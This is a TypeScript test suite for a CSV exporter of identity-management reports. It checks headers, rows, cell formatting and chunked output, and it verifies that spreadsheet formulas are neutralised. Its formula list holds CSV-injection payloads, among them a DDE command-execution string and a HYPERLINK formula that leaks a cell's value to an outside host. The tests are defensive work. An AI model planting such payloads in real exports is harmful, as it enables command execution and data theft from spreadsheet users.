import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { ReportName, Reports } from "./contract.ts";
import { csvPieces, reportCsv } from "./csv.ts";
import { exampleReports } from "./fixtures.ts";

const NAMES = Object.keys(exampleReports) as ReportName[];

/** Reads CSV as RFC 4180 says: the reader that spreadsheets have. */
function read(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/gy;
  for (const [, quoted, plain, end] of csv.matchAll(cells)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** Names of all fields of a row, lists taken as one field. */
function fieldsOf(value: object, path = ""): string[] {
  return Object.entries(value).flatMap(([name, member]: [string, unknown]) =>
    typeof member === "object" && member !== null && !Array.isArray(member)
      ? fieldsOf(member, `${path}${name}.`)
      : [`${path}${name}`],
  );
}

function cellsOf<N extends ReportName>(name: N, report: Reports[N]): Record<string, string>[] {
  const [header = [], ...rows] = read(reportCsv(name, report));
  return rows.map((row) => Object.fromEntries(row.map((cell, i) => [header[i] ?? "", cell])));
}

function accountNamed(userName: string): Reports["accounts"] {
  const { accounts } = exampleReports;
  return { ...accounts, rows: accounts.rows.map((row) => ({ ...row, userName })) };
}

describe.each(NAMES)("CSV of %s", (name) => {
  test("has a column for each field of the contract, and a line for each row", () => {
    const report = exampleReports[name];
    const [header, ...rows] = read(reportCsv(name, report));
    expect(header?.toSorted()).toEqual(fieldsOf(report.rows[0] as object).toSorted());
    expect(rows).toHaveLength(report.rows.length);
  });

  test("keeps its header when there is no row", () => {
    const [header] = read(reportCsv(name, exampleReports[name]));
    expect(read(reportCsv(name, { ...exampleReports[name], rows: [] }))).toEqual([header]);
  });
});

describe("cells", () => {
  test("numbers, truth values, lists and nested fields are written plainly, null as nothing", () => {
    const [step] = cellsOf("offboarding", exampleReports.offboarding);
    expect(step).toMatchObject({
      "identity.userName": "bob@larkspur.example",
      latency: "90",
      breached: "false",
      lastError: "",
    });
    const [alice, bob] = cellsOf("accounts", exampleReports.accounts);
    expect(alice).toMatchObject({ active: "true", entitlements: "Editors; On call" });
    expect(bob).toMatchObject({ active: "false", entitlements: "" });
    const [group] = cellsOf("failures", exampleReports.failures);
    expect(group).toMatchObject({
      items: "alice@larkspur.example; the connection itself",
      message: 'the name "alice" is taken,\nin this directory',
    });
    const [wiki] = cellsOf("coverage", exampleReports.coverage);
    expect(wiki).toMatchObject({ "cells.leaver.state": "automated", "cells.leaver.successes": "12" });
  });

  const FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\ttext",
    " =1+1",
    "\u00a0\u200b=1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "－1",
    '=HYPERLINK("https://x.example?"&A1,"see")',
    "=cmd|' /C calc'!A0",
  ];

  test.each(FORMULAS)("the formula %j is neutralised, in a text and in a list", (formula) => {
    expect(cellsOf("accounts", accountNamed(formula))[0]?.userName).toBe(`'${formula}`);
    const { accounts } = exampleReports;
    const rows = accounts.rows.map((row) => ({ ...row, entitlements: [formula, "Editors"] }));
    expect(cellsOf("accounts", { ...accounts, rows })[0]?.entitlements).toBe(`'${formula}; Editors`);
  });

  test.each(["alice@larkspur.example", "a=b", "1-2", "O'Brien", '"quoted"', "2026-03-31T09:00:00.000Z"])(
    "%j is no formula and stays as it is",
    (text) => {
      expect(cellsOf("accounts", accountNamed(text))[0]?.userName).toBe(text);
    },
  );

  test("no text anywhere in a row of any report can be run, whichever field it is in", () => {
    for (const name of NAMES) {
      const report = exampleReports[name];
      const hostile = (value: unknown): unknown => {
        if (typeof value === "string") return `=${value}`;
        if (Array.isArray(value)) return value.map(hostile);
        if (typeof value !== "object" || value === null) return value;
        return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, hostile(member)]));
      };
      const csv = reportCsv(name, { ...report, rows: report.rows.map(hostile) } as Reports[typeof name]);
      const [, ...rows] = read(csv);
      expect(rows.length).toBeGreaterThan(0);
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r\n]/u);
    }
  });

  test("a number below zero stays a number", () => {
    const { dormant } = exampleReports;
    const rows = dormant.rows.map((row) => ({ ...row, idleDays: -1 }));
    expect(cellsOf("dormant", { ...dormant, rows })[0]?.idleDays).toBe("-1");
  });

  test("any text comes back as it was, with an apostrophe before what could be a formula", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const cell = cellsOf("accounts", accountNamed(text))[0]?.userName;
        expect([text, `'${text}`]).toContain(cell);
        expect(cell).not.toMatch(/^[\s"]*[=+\-@]|^[\t\r\n]/u);
      }),
    );
  });
});

test("pieces together are the whole, however many rows there are", () => {
  const rows = Array.from({ length: 2500 }, (_, i) => ({
    ...exampleReports.accounts.rows[0],
    account: `a${i}`,
  })) as Reports["accounts"]["rows"];
  const report = { ...exampleReports.accounts, rows };
  const pieces = [...csvPieces("accounts", report)];
  expect(pieces.length).toBeGreaterThan(2);
  const accounts = cellsOf("accounts", report).map((row) => row.account);
  expect(accounts).toEqual(rows.map((row) => row.account));
});
